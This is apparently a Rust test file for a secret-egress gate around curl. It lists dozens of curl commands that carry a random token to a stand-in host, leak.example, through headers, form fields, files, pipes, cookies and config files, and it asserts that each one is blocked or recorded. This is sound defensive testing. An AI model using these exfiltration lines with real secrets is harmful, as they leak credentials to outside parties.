//! Every way in which curl takes content, each with a token on its way to a stranger.

use std::fs;

use crate::gate::SECRET_RULE;
use crate::support::{Egress, Install, forms_of, holds_any, random_token};

/// One way to hand a token to curl.
struct Way {
    /// What stands in a failure.
    name: &'static str,
    /// The line; `{url}` is the stranger's, with `{resolve}` bending it to the server of the test.
    line: &'static str,
    /// Where the token is found.
    channel: &'static str,
    /// Whether it is also found when only observing, which never touches a pipe.
    observed: bool,
}

const fn way(name: &'static str, line: &'static str, channel: &'static str) -> Way {
    Way { name, line, channel, observed: true }
}

/// A way whose content comes out of a pipe.
const fn piped(name: &'static str, line: &'static str, channel: &'static str) -> Way {
    Way { name, line, channel, observed: false }
}

const WAYS: &[Way] = &[
    way("-d", "curl -s -d 'key={token}' {resolve} {url}", "arg[3]"),
    way("-dVALUE", "curl -s '-dkey={token}' {resolve} {url}", "arg[2]"),
    way("--data=", "curl -s --data 'key={token}' {resolve} {url}", "arg[3]"),
    way("--data-ascii", "curl -s --data-ascii '{token}' {resolve} {url}", "arg[3]"),
    way("--data-raw", "curl -s --data-raw '@{token}' {resolve} {url}", "arg[3]"),
    way("--data-urlencode", "curl -s --data-urlencode 'k={token}' {resolve} {url}", "arg[3]"),
    way(
        "--data-urlencode k@f",
        "curl -s --data-urlencode k@body {resolve} {url}",
        "file:{work}/body",
    ),
    piped("-d @-", "printf 'key=%s' '{token}' | curl -s -d @- {resolve} {url}", "stdin"),
    way("-d @- < f", "curl -s -d @- {resolve} {url} < body", "stdin"),
    way("--data-binary @f", "curl -s --data-binary @body {resolve} {url}", "file:{work}/body"),
    way(
        "-d @f from elsewhere",
        "cd / && curl -s -d @{work}/body {resolve} {url}",
        "file:{work}/body",
    ),
    way("-T f", "curl -s -T body {resolve} {url}", "file:{work}/body"),
    way("--upload-file f", "curl -s {resolve} {url} --upload-file body", "file:{work}/body"),
    piped("-T -", "cat body | curl -s -T - {resolve} {url}", "stdin"),
    way("-F f=@file", "curl -s -F f=@body {resolve} {url}", "file:{work}/body"),
    way("-F f=<file", "curl -s -F 'f=<body' {resolve} {url}", "file:{work}/body"),
    way("-F text", "curl -s -F 'f={token};type=text/plain' {resolve} {url}", "arg[3]"),
    way("--form-string", "curl -s --form-string 'f=@{token}' {resolve} {url}", "arg[3]"),
    way("-F headers", "curl -s -F 'f=x;headers=\"X-A: {token}\"' {resolve} {url}", "arg[3]"),
    way("-H", "curl -s -H 'X-Token: {token}' {resolve} {url}", "arg[3]"),
    way("-H Authorization", "curl -s -H 'Authorization: token {token}' {resolve} {url}", "arg[3]"),
    way("-H @file", "curl -s -H @header {resolve} {url}", "file:{work}/header"),
    way("query", "curl -s {resolve} '{url}?token={token}'", "arg[4]"),
    way("path", "curl -s {resolve} '{url}{token}/x'", "arg[4]"),
    way("-G -d", "curl -s -G -d 'key={token}' {resolve} {url}", "arg[4]"),
    way("--url-query", "curl -s --url-query 'k={token}' {resolve} {url}", "arg[3]"),
    way("userinfo", "curl -s {resolve} 'http://ann:{token}@leak.example:{port}/'", "arg[4]"),
    way("-u", "curl -s -u 'ann:{token}' {resolve} {url}", "arg[3]"),
    way("--oauth2-bearer", "curl -s --oauth2-bearer '{token}' {resolve} {url}", "arg[3]"),
    way("--config file", "curl -s --config settings {resolve} {url}", "field:body"),
    way("-b", "curl -s -b 'session={token}' {resolve} {url}", "arg[3]"),
    way("-b file", "curl -s -b jar {resolve} {url}", "file:{work}/jar"),
    way("--json", "curl -s --json '{\"key\":\"{token}\"}' {resolve} {url}", "arg[3]"),
    way("--json @f", "curl -s --json @body {resolve} {url}", "file:{work}/body"),
    way("-e", "curl -s -e 'http://a.example/?{token}' {resolve} {url}", "arg[3]"),
    way("-A", "curl -s -A 'agent {token}' {resolve} {url}", "arg[3]"),
    way("-X", "curl -s -X 'PUT-{token}' {resolve} {url}", "arg[3]"),
    piped("<(…)", "curl -s --data-binary @<(cat body) {resolve} {url}", "file:/dev/fd/63"),
    way("--next", "curl -s {resolve} {url} --next -s -d '{token}' {resolve} {url}", "arg[8]"),
    way("--url", "curl -s --data '{token}' {resolve} --url {url}", "arg[3]"),
    way("abbreviated", "curl -s --data-bin @body {resolve} {url}", "file:{work}/body"),
    way("glued", "curl -s '-d{token}' {resolve} {url}", "arg[2]"),
    way("glued in a group", "curl '-sSd{token}' {resolve} {url}", "arg[1]"),
    way("glued agent", "curl -s '-A{token}' {resolve} {url}", "arg[2]"),
    way("in a group", "curl -sid 'key={token}' {resolve} {url}", "arg[2]"),
];

impl Way {
    /// The line with everything filled in.
    fn line(&self, install: &Install, server: &Egress, token: &str) -> String {
        let port = server.port().to_string();
        self.line
            .replace("{resolve}", "--resolve leak.example:{port}:127.0.0.1")
            .replace("{url}", "http://leak.example:{port}/")
            .replace("{port}", &port)
            .replace("{token}", token)
            .replace("{work}", install.work().to_str().unwrap())
    }

    fn channel(&self, install: &Install) -> String {
        self.channel.replace("{work}", install.work().to_str().unwrap())
    }
}

/// The files that the lines speak of.
fn put_files(install: &Install, token: &str) {
    let files = [
        ("body", format!("{{\n \"key\": \"{token}\"\n}}\n")),
        ("header", format!("X-Token: {token}\n")),
        ("settings", format!("data = \"key={token}\"\n")),
        ("jar", format!("leak.example\tFALSE\t/\tFALSE\t0\tsession\t{token}\n")),
    ];
    for (name, text) in files {
        fs::write(install.work().join(name), text).unwrap();
    }
}

#[test]
fn enforced_mode_lets_no_token_out_in_any_way() {
    let (install, server) = (Install::new(&["curl"]), Egress::start());
    for way in WAYS {
        let token = random_token();
        put_files(&install, &token);
        let ended = install.bash(&way.line(&install, &server, &token)).run();
        assert_eq!(ended.code(), 126, "{}\n{}{}", way.name, ended.stdout(), ended.stderr());
        assert!(!holds_any(&ended.0.stderr, &forms_of(&token)), "{}", way.name);
        let finding = format!("finding=secret.github.pat:{}", way.channel(&install));
        let first = ended.stderr().lines().next().unwrap().to_owned();
        assert!(first.ends_with(&finding), "{}: {first}", way.name);
        let receipt = ended.assert_denied(&install, SECRET_RULE);
        assert_eq!(receipt["mode"], "enforced", "{}", way.name);
        assert_eq!(server.connections(), 0, "{}", way.name);
        assert_eq!(install.leak_of(&token), None, "{}", way.name);
    }
    assert!(server.requests().is_empty());
    install.datafog(["receipts", "verify"]).run().succeeds();
}

#[test]
fn observe_mode_changes_nothing_in_any_way_and_records_it() {
    let (install, server) = (Install::observing(&["curl"]), Egress::start());
    for way in WAYS {
        let token = random_token();
        put_files(&install, &token);
        let line = way.line(&install, &server, &token);
        let plain = install.plain_bash(&line).run();
        let sent = server.take();
        let observed = install.bash(&line).run();
        assert_eq!(observed.0, plain.0, "{}", way.name);
        assert_eq!(plain.code(), 0, "{}: {}", way.name, plain.stderr());
        assert!(holds_any(&sent, &forms_of(&token)), "{}: nothing was sent", way.name);
        assert_eq!(without_boundaries(&server.take()), without_boundaries(&sent), "{}", way.name);
        let receipt = install.receipts().pop().unwrap();
        let decision = if way.observed { "deny" } else { "allow" };
        assert_eq!(receipt["decision"], decision, "{}: {receipt}", way.name);
        assert_eq!(receipt["enforcement"], "exec", "{}", way.name);
        assert_eq!(receipt["mode"], "observe", "{}", way.name);
        let pipe = receipt["faults"].to_string().contains("is a pipe and was not scanned");
        assert_eq!(pipe, !way.observed, "{}: {receipt}", way.name);
        assert_eq!(install.leak_of(&token), None, "{}", way.name);
    }
}

/// Settings that come out of a pipe cannot be read twice, so nobody knows what the call would be.
#[test]
fn settings_from_a_stream_are_not_taken_on_trust() {
    let lines = [
        "cat settings | curl -s -K - --resolve leak.example:{port}:127.0.0.1 http://leak.example:{port}/",
        "curl -s -K - --resolve leak.example:{port}:127.0.0.1 http://leak.example:{port}/ < settings",
        "curl -s -K <(cat settings) --resolve leak.example:{port}:127.0.0.1 http://leak.example:{port}/",
    ];
    let (enforced, observing) = (Install::new(&["curl"]), Install::observing(&["curl"]));
    let (server, token) = (Egress::start(), random_token());
    for line in lines.map(|line| line.replace("{port}", &server.port().to_string())) {
        put_files(&enforced, &token);
        let denied = enforced.bash(&line).run().ends_with(126);
        assert!(!holds_any(&denied.0.stderr, &forms_of(&token)), "{line}");
        assert_eq!(server.connections(), 0, "{line}");
    }
    for line in lines.map(|line| line.replace("{port}", &server.port().to_string())) {
        put_files(&observing, &token);
        let plain = observing.plain_bash(&line).run().succeeds();
        let sent = server.take();
        assert_eq!(observing.bash(&line).run().0, plain.0, "{line}");
        assert_eq!(server.take(), sent, "{line}");
        assert_eq!(observing.receipts().pop().unwrap()["decision"], "deny", "{line}");
    }
    assert_eq!(enforced.leak_of(&token).or_else(|| observing.leak_of(&token)), None);
}

/// The request with the random part of curl's multipart boundary taken out.
fn without_boundaries(request: &[u8]) -> String {
    let text = String::from_utf8_lossy(request).into_owned();
    let Some((_, rest)) = text.split_once("boundary=") else { return text };
    let boundary = rest.split("\r\n").next().unwrap().to_owned();
    text.replace(&boundary, "boundary")
}

#[test]
fn what_was_judged_in_a_pipe_is_what_is_sent() {
    let (install, server) = (Install::new(&["curl"]), Egress::start());
    let body: Vec<u8> = (0..3_000_000_u32).map(|index| (index % 251) as u8).collect();
    fs::write(install.work().join("body"), &body).unwrap();
    let url = format!("http://127.0.0.1:{}/", server.port());
    for line in [
        format!("cat body | curl -s --data-binary @- {url}"),
        format!("cat body | curl -s -T - {url}"),
        format!("curl -s --data-binary @<(cat body) {url}"),
    ] {
        assert_eq!(install.bash(&line).run().succeeds().stdout(), "received\n", "{line}");
        assert!(server.take().ends_with(&body), "{line}");
    }
}

#[test]
fn a_token_that_comes_in_pieces_or_from_the_shell_is_one_token() {
    let (install, server) = (Install::new(&["curl"]), Egress::start());
    let token = random_token();
    let (head, tail) = token.split_at(17);
    let url =
        format!("--resolve leak.example:{0}:127.0.0.1 http://leak.example:{0}/", server.port());
    let lines = [
        format!("(printf %s {head}; printf %s {tail}) | curl -s -d @- {url}"),
        format!("{{ head -c 262140 /dev/zero; printf ' %s' {token}; }} | curl -s -d @- {url}"),
        format!("curl -s -d @- {url} <<end\nkey={token}\nend"),
        format!("curl -s -d @- {url} <<< 'key={token}'"),
        format!("x={head}; curl -s -d \"key=${{x}}{tail}\" {url}"),
        format!("curl -s -d \"$(printf %s {tail} | sed 's/^/{head}/')\" {url}"),
    ];
    for line in lines {
        install.bash(&line).run().assert_denied(&install, SECRET_RULE);
    }
    assert_eq!(server.connections(), 0);
}

#[test]
fn a_pipe_over_the_limit_is_not_sent_unread() {
    let (install, server) = (Install::new(&["curl"]), Egress::start());
    let settings = "mode = \"enforced\"\n[limits]\nstdin_bytes = 1000\n";
    fs::write(install.root().join("config.toml"), settings).unwrap();
    let send = |bytes: usize| {
        let line = format!(
            "head -c {bytes} /dev/zero | curl -s --data-binary @- \
             --resolve leak.example:{0}:127.0.0.1 http://leak.example:{0}/",
            server.port()
        );
        install.bash(&line).run()
    };
    send(1000).succeeds();
    let refused = send(1001).assert_denied(&install, "unscannable");
    assert!(refused["faults"].to_string().contains("limit for standard input"), "{refused}");
    assert_eq!(server.connections(), 1);
}
